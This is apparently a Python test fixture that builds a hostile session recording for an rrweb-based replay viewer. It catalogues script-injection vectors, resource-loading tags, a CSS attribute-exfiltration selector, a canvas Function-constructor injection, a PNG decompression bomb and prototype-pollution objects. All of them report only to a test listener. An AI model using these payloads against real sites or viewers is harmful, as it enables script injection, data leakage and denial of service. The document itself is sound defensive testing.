"""A recording that tries to run code, to load something, or to go somewhere, in many ways.

Every script says `CANARY` on the console, every address is one of the listener, so that a single
success is seen. `{url}` is the listener's address, `{name}` the attempt.
"""

from __future__ import annotations

import base64
import random
from typing import Any

from tests.browser import hostile_assets, hostile_families
from tests.browser.made_events import (
    BODY,
    FIRST_FREE_ID,
    click,
    element,
    mutation,
    page_events,
    text,
)

Event = dict[str, Any]

# name: (tag, attributes). Attributes may hold {url} and {js}.
ELEMENTS: dict[str, tuple[str, Event]] = {
    "img-src": ("img", {"src": "{url}"}),
    "img-srcset": ("img", {"srcset": "{url} 2x"}),
    "img-onerror": ("img", {"src": "data:image/png,", "onerror": "{js}"}),
    "img-ONERROR": ("IMG", {"src": "data:image/png,", "ONERROR": "{js}"}),
    "img-dataurl": ("img", {"rr_dataURL": "{url}"}),
    "picture-source": ("source", {"srcset": "{url}"}),
    "input-image": ("input", {"type": "image", "src": "{url}"}),
    "autofocus": ("input", {"autofocus": "", "onfocus": "{js}"}),
    "details-toggle": ("details", {"open": "", "ontoggle": "{js}"}),
    "body-onload": ("body", {"onload": "{js}"}),
    "animation": ("div", {"style": "animation: x 1s", "onanimationstart": "{js}"}),
    "iframe-src": ("iframe", {"src": "{url}"}),
    "iframe-javascript": ("iframe", {"src": "javascript:{js}"}),
    "iframe-srcdoc": ("iframe", {"srcdoc": "<script>{js}</script><img src={url}>"}),
    "frame": ("frame", {"src": "{url}"}),
    "portal": ("portal", {"src": "{url}"}),
    "fencedframe": ("fencedframe", {"src": "{url}"}),
    "object": ("object", {"data": "{url}"}),
    "embed": ("embed", {"src": "{url}"}),
    "applet": ("applet", {"archive": "{url}", "code": "x"}),
    "video": ("video", {"src": "{url}", "poster": "{url}", "autoplay": ""}),
    "audio": ("audio", {"src": "{url}", "autoplay": "", "rr_mediaState": "played"}),
    "track": ("track", {"src": "{url}", "default": ""}),
    "link-stylesheet": ("link", {"rel": "stylesheet", "href": "{url}"}),
    "link-prefetch": ("link", {"rel": "prefetch", "href": "{url}"}),
    "link-preload": ("link", {"rel": "preload", "as": "image", "href": "{url}"}),
    "link-modulepreload": ("link", {"rel": "modulepreload", "href": "{url}"}),
    "link-preconnect": ("link", {"rel": "preconnect", "href": "{url}"}),
    "link-dns-prefetch": ("link", {"rel": "dns-prefetch", "href": "{url}"}),
    "link-manifest": ("link", {"rel": "manifest", "href": "{url}"}),
    "link-icon": ("link", {"rel": "icon", "href": "{url}"}),
    "link-imagesrcset": ("link", {"rel": "preload", "as": "image", "imagesrcset": "{url} 1x"}),
    "meta-refresh": ("meta", {"http-equiv": "refresh", "content": "0;url={url}"}),
    "meta-REFRESH": ("META", {"HTTP-EQUIV": "Refresh", "content": "0;url=javascript:{js}"}),
    "meta-csp": ("meta", {"http-equiv": "content-security-policy", "content": "style-src 'none'"}),
    "base": ("base", {"href": "{url}"}),
    "form": ("form", {"action": "{url}", "name": "getElementsByTagName"}),
    "button": ("button", {"formaction": "{url}"}),
    "anchor": ("a", {"href": "{url}", "ping": "{url}"}),
    "anchor-javascript": ("a", {"href": " java\tscript:{js}"}),
    "table-background": ("table", {"background": "{url}"}),
    "style-attribute": ("div", {"style": "width:9px;height:9px;background:url({url})"}),
    "style-import": ("style", {"_cssText": "@import '{url}'; p {{ color: red }}"}),
    "style-font": (
        "style",
        {"_cssText": "@font-face {{ font-family: f; src: url({url}) }} h1 {{ font-family: f }}"},
    ),
    "style-escaped": ("style", {"_cssText": "h1 {{ background: \\75rl({url}) }}"}),
    "style-image-set": ("style", {"_cssText": "h1 {{ background: image-set('{url}' 1x) }}"}),
    "style-exfiltration": (
        "style",
        {"_cssText": "input[value^='s'] {{ background: url({url}) }}"},
    ),
    "link-css": ("link", {"rel": "stylesheet", "_cssText": "h1 {{ cursor: url({url}), auto }}"}),
}

SVG_ELEMENTS: dict[str, tuple[str, Event]] = {
    "svg-image": ("image", {"href": "{url}", "width": "9", "height": "9"}),
    "svg-xlink": ("image", {"xlink:href": "{url}", "width": "9", "height": "9"}),
    "svg-use": ("use", {"href": "{url}#x"}),
    "svg-feimage": ("feImage", {"href": "{url}"}),
    "svg-onload": ("svg", {"onload": "{js}"}),
    "svg-onbegin": ("animate", {"onbegin": "{js}", "attributeName": "x", "dur": "1s"}),
    "svg-animate-href": ("animate", {"attributeName": "href", "values": "javascript:{js}"}),
    "svg-anchor": ("a", {"xlink:href": "javascript:{js}"}),
}

SCRIPT_TAGS = ("script", "SCRIPT", "svg:script", "sCrIpT")


def script_of(name: str) -> str:
    """Return code that tells that it ran."""
    return f"console.log('CANARY {name}')"


def _filled(attributes: Event, url: str, name: str) -> Event:
    address = f"{url}/{name}"
    return {key: value.format(url=address, js=script_of(name)) for key, value in attributes.items()}


def _elements(url: str) -> list[Event]:
    made: list[Event] = []
    for name, (tag, attributes) in (ELEMENTS | hostile_families.elements()).items():
        filled = _filled(attributes, url, name)
        made.append(element(FIRST_FREE_ID + len(made), tag, attributes=filled))
    for name, (tag, attributes) in (SVG_ELEMENTS | hostile_families.svg_elements()).items():
        filled = _filled(attributes, url, name)
        shape = element(FIRST_FREE_ID + len(made), tag, attributes=filled, isSVG=True)
        made.append(element(FIRST_FREE_ID + len(made) + 1000, "svg", [shape], isSVG=True))
    return made


def _scripts(url: str, first_id: int) -> list[Event]:
    made: list[Event] = []
    for number, tag in enumerate(SCRIPT_TAGS):
        name = f"script-{tag}"
        node_id = first_id + number * 2
        code = text(node_id + 1, script_of(name))
        made.append(element(node_id, tag, [code], isSVG=":" in tag))
        made.append(element(node_id + 100, tag, attributes={"src": f"{url}/{name}"}))
    return made


def _canvas(at: float) -> Event:
    """Return a command whose argument makes rrweb call a function built from recorded text."""
    code = script_of("canvas-constructor")
    promise = {"rr_type": "Promise", "args": [{"rr_type": "Function", "args": [code]}]}
    command = {"property": "drawImage", "args": [promise]}
    data = {"source": 9, "id": BODY, "type": 0, "commands": [command]}
    return {"type": 3, "timestamp": at, "data": data}


# What somebody could send in place of a canvas's picture.
PICTURES = {
    "picture-address": "{url}/picture.png",
    "picture-script": "javascript:{js}",
    "picture-document": "data:text/html,<script>{js}</script>",
    "picture-svg": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js}\">"
    "<image href='{url}/svg' width='9' height='9'/></svg>",
    "picture-false-type": "data:image/png,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='{url}/false' width='9' height='9'/></svg>",
}


def _pictures(at: float, url: str) -> list[Event]:
    """Return pictures for a canvas that is shown, for what is none, and far too many of them."""
    canvas = element(9000, "canvas", attributes={"width": "1000000000", "height": "1000000000"})
    payloads: list[Event] = [
        {"id": node, "image": image.format(url=f"{url}/{name}", js=script_of(name))}
        for name, image in PICTURES.items()
        for node in (9000, BODY)
    ]
    # A PNG that says it is 60,000 pixels wide and high: 14 GB, once somebody draws it.
    bomb = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA6mAAAOpgCAYAAAA="
    payloads += [{"id": node, "image": bomb} for node in range(8900, 9001)]
    # Not "AAA…": the server refuses what is compressed a thousandfold.
    noise = base64.b64encode(random.Random(1).randbytes(750_100)).decode()
    payloads += [{"id": "9000", "image": [bomb]}, {"id": 9000, "image": f"{bomb}{noise}"}]
    tagged = [{"tag": "pulse:canvas", "payload": payload} for payload in payloads]
    added = mutation(at, adds=[{"parentId": BODY, "nextId": None, "node": canvas}])
    return [added, *({"type": 5, "timestamp": at + 1, "data": data} for data in tagged)]


def _changes(at: float, url: str) -> list[Event]:
    """Return the same attacks as changes of a page that is already shown."""
    attacks = [
        *_elements(url),
        *_scripts(url, 3000),
        *hostile_assets.references(url, 3500),
    ]
    nodes: list[Event] = []
    for number, node in enumerate(attacks):
        children = [{**child, "id": 5001 + number * 2} for child in node.get("childNodes", [])]
        nodes.append({**node, "id": 5000 + number * 2, "childNodes": children})
    adds = [{"parentId": BODY, "nextId": None, "node": node} for node in nodes]
    later = f"{url}/changed"
    attributes = [
        {"id": node["id"], "attributes": {name: later}}
        for node in nodes
        for name in ("src", "href", "srcset", "data", "action", "poster", "rel")
    ]
    handlers = [
        {"id": node["id"], "attributes": {name: script_of("changed")}}
        for node in nodes
        for name in ("onload", "onerror", "onfocus", "srcdoc")
    ]
    return [
        mutation(at, adds=adds),
        mutation(at + 10, attributes=attributes),
        mutation(at + 20, attributes=handlers),
    ]


def _style_sheets(at: float, url: str) -> list[Event]:
    rule = f"h1 {{ background: url({url}/rule) }}"
    adopted = [{"styleId": 1, "rules": [{"rule": rule}]}]
    sheets = [
        {"source": 8, "id": FIRST_FREE_ID + 46, "adds": [{"rule": rule, "index": 0}]},
        {"source": 8, "styleId": 1, "replaceSync": rule},
        {"source": 13, "id": 1, "index": [0], "set": {"property": "background", "value": rule}},
        {"source": 15, "id": 1, "styleIds": [1], "styles": adopted},
        {"source": 10, "family": "f", "fontSource": f"url({url}/font)", "buffer": False},
    ]  # fmt: skip
    return [{"type": 3, "timestamp": at + n, "data": data} for n, data in enumerate(sheets)]


def _pollution(at: float) -> list[Event]:
    polluting = {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}
    return [
        {"type": 5, "timestamp": at, "data": {"tag": "x", "payload": polluting, **polluting}},
        {"type": 6, "timestamp": at + 1, "data": {"plugin": "x", "payload": polluting}},
        mutation(at + 2, **polluting),
        mutation(at + 3, attributes=[{"id": BODY, "attributes": {"style": polluting}}]),
    ]


def hostile_events(at: float, url: str) -> list[Event]:
    """Return a recording of three seconds; its page still says `still here` where it survives."""
    referring = hostile_assets.references(url, 2500)
    return [
        *page_events(at, "still here", body=[*_elements(url), *_scripts(url, 2000), *referring]),
        *_changes(at + 500, url),
        *_style_sheets(at + 700, url),
        _canvas(at + 800),
        *_pictures(at + 850, url),
        *_pollution(at + 900),
        click(at + 2900),
    ]


def count_of_attacks() -> int:
    """Return in how many different ways the recording tries."""
    return (
        hostile_assets.COUNT
        + len(ELEMENTS)
        + len(SVG_ELEMENTS)
        + len(hostile_families.elements())
        + len(hostile_families.svg_elements())
        + 2 * len(SCRIPT_TAGS)
        + len(PICTURES)
        + 10
    )
